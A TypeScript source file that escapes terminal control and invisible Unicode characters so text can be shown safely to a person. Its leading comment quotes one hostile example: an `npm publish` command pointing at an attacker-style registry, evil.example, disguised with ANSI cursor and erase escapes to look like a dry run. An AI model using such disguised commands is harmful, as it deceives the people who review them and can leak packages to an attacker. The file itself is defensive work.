// Text a task or a client chose, made safe to show a person on a terminal: every character a
// terminal acts on or draws as nothing is shown as an escape, as `ls -b` and git's quoted paths
// show them. A terminal runs ESC [ 33 D (33 columns back) and ESC [ K (erase to the end of the
// line): `npm publish '--registry=https://evil.example/ESC[33DESC[K--dry-run'` printed raw reads
// as `npm publish --dry-run'`. C0, DEL and C1 controls, Unicode's format characters (bidi
// overrides, zero-width ones, tags), the other characters Unicode says show as nothing, line and
// paragraph separators and lone surrogates are escaped (but for the joiner and the variation
// selectors that follow an emoji within its sequence, which draw it); a backslash stays as it is, so that a
// command's own backslashes read as written (`\e` may then be those two characters: --json and
// the tools' answers give the text exactly).

/** The characters shown escaped (U+2800, the blank Braille pattern, draws as nothing but is none of them). */
const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}\u2800]/gu;
/** What joins or styles an emoji: kept right after a pictograph, as part of it. */
const EMOJI_PARTS = new Set(['\u200d', '\ufe0e', '\ufe0f']);
const AFTER_PICTOGRAPH = /\p{Extended_Pictographic}$/u;
const NAMED: Record<string, string> = {
  '\x07': '\\a',
  '\b': '\\b',
  '\t': '\\t',
  '\n': '\\n',
  '\v': '\\v',
  '\f': '\\f',
  '\r': '\\r',
  '\x1b': '\\e',
};

/** One character as its escape: `\e`, `\x7f`, `\u202e`, `\U000e0041`. */
function escapeOf(char: string): string {
  const named = NAMED[char];
  if (named !== undefined) return named;
  const code = char.codePointAt(0)!;
  const hex = code.toString(16);
  if (code < 0x100) return `\\x${hex.padStart(2, '0')}`;
  if (code < 0x10000) return `\\u${hex.padStart(4, '0')}`;
  return `\\U${hex.padStart(8, '0')}`;
}

/**
 * `text` with every control and invisible character escaped, to be printed for a person; with
 * `keepLines`, newlines and tabs pass as they are (a multi-line text shown as lines).
 */
export function escapeControls(text: string, keepLines = false): string {
  return text.replace(HIDDEN, (char: string, at: number) => {
    if (keepLines && (char === '\n' || char === '\t')) return char;
    if (EMOJI_PARTS.has(char) && AFTER_PICTOGRAPH.test(text.slice(Math.max(0, at - 2), at))) return char;
    return escapeOf(char);
  });
}
